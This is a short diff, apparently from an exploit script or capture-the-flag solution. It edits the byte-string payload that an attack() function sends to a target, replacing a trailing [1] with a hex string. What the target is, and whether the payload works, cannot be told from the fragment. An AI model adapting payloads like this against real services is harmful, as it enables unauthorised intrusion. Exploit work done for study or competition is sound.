@@ -19,5 +19,5 @@ def send(number, payload):
 
 
 def attack():
-    send(exchange(), b'[[null],[[0, "internal", "the machine did it"]],[1]]')
+    send(exchange(), b'[[null],[[0, "internal", "the machine did it"]],"0100000000000000"]')
     return "true"
